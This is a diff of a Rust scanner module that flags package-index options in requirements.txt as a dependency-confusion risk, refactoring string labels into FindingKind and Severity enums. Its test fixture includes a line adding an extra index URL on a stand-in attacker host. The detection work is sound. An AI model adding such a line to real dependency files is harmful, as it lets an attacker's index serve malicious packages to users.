@@ -8,10 +8,10 @@
 //! an attacker-controlled index serves any package under any name (dependency confusion,
 //! Birsan 2021).
 
-use super::dependencies::Dependency;
-use super::ecosystems::{quoted_strings, Scan};
 use super::manifest_toml;
+use super::model::{quoted_strings, Dependency, Scan};
 use crate::engine::diff::Hunk;
+use crate::signal::{FindingKind, Severity};
 
 const OPERATORS: &[&str] = &["===", "==", ">=", "<=", "~=", "!=", ">", "<", "@"];
 
@@ -91,8 +91,8 @@ pub fn requirements(_hunk: &Hunk, view: &[(&str, bool)]) -> Scan {
             .find(|option| text.starts_with(**option))
         {
             scan.other.push((
-                "package_index",
-                "high",
+                FindingKind::PackageIndex,
+                Severity::High,
                 format!("sets a package source: {text} (option {})", option.trim()),
             ));
             continue;
@@ -180,7 +180,7 @@ mod tests {
     use super::*;
     use crate::engine::diff::parse;
 
-    fn new_side(scanner: super::super::ecosystems::Scanner, patch: &str) -> Scan {
+    fn new_side(scanner: super::super::model::Scanner, patch: &str) -> Scan {
         let patch = parse(patch);
         let hunk = &patch.hunks[0];
         scanner(hunk, &hunk.new_view())
@@ -220,7 +220,7 @@ mod tests {
         let scan = new_side(requirements, "@@ -1,2 +1,4 @@\n flask==3.0.0\n+--extra-index-url https://pypi.evil.example/simple\n+torch==2.3.0 # cuda\n-# comment");
         assert_eq!(scan.dependencies, [Dependency::new("torch", "==2.3.0")]);
         assert_eq!(scan.other.len(), 1);
-        assert_eq!(scan.other[0].0, "package_index");
+        assert_eq!(scan.other[0].0, FindingKind::PackageIndex);
     }
 
     #[test]
